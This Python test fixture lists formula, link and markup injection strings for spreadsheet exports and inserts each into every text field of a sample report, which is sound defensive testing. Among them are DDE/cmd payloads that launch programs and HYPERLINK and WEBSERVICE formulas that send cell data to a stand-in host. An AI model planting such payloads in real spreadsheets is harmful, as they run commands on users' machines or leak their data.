"""Text that spreadsheets, and what writes for them, take for more than text."""

from typing import Any

import msgspec

from core.wire.documents import Document, Words
from tests.reports.samples import data_quality, document, partner_quality

FORMULAS = [
    "=1+1",
    "=1+1;",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "|calc",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"!A0")',
    '=HYPERLINK("https://example.com/?leak="&A1,"Lỗi")',
    '=WEBSERVICE("https://example.com/"&A1)',
    '=IMPORTXML("https://example.com/","//a")',
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "{=SUM(A1:A3)}",
    " =1+1",
    "\t=1+1",
    "\r\n=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1,1)",
    "﹦1+1",
    "';=1+1",
    '"=1+1',
    '",=1+1,"',
    '";=1+1;"',
    "vui;=1+1;vui",
    "vui\t=1+1",
    "vui\n=1+1",
    "vui\r@SUM(1,1)",
]
LINKS = [
    "https://example.com/",
    "http://example.com/a b",
    "ftp://example.com/",
    "mailto:a@example.com",
    "internal:'1.1'!A1",
    "external:c:\\temp\\a.xlsx",
    "file:///etc/hostname",
    "\\\\example.com\\share",
    "www.example.com",
]
MARKUP = [
    "<r><t>x</t></r>",
    "<r><f>1+1</f></r>",
    "</t></si><si><t>",
    "</c:f><c:f>Sheet1!$A$1",
    "]]>",
    "&lt;f&gt;1+1&lt;/f&gt;",
    "&#61;1+1",
    '" onload="x',
    "_x003D_1+1",
    "_x0000_",
    "&P&N&G&[File]",
    "[x]:*?/\\'",
    "'tên'",
    "History",
    "Bìa",
    "😀" * 40,
    "ắ" * 40,
    "0123",
    "1E5",
    "TRUE",
    "2026-10-01",
    "#REF!",
    "\ufffe\uffff",
    "a\x00b\x0bc\x1fd",
    "a" * 5_000,
]
TEXTS = [*FORMULAS, *LINKS, *MARKUP]


def everywhere(text: str) -> Document:
    """A report that says `text` wherever somebody's words stand: titles, labels and notes."""
    short = msgspec.structs.replace(document(), sections=(partner_quality(), data_quality()))
    told: Document = _told(short, text)
    return told


def _told(value: Any, text: str) -> Any:
    if isinstance(value, Words):
        return Words(text, text)
    if isinstance(value, tuple):
        return tuple(_told(one, text) for one in value)
    if isinstance(value, msgspec.Struct):
        return type(value)(*(_told(getattr(value, name), text) for name in value.__struct_fields__))
    return value
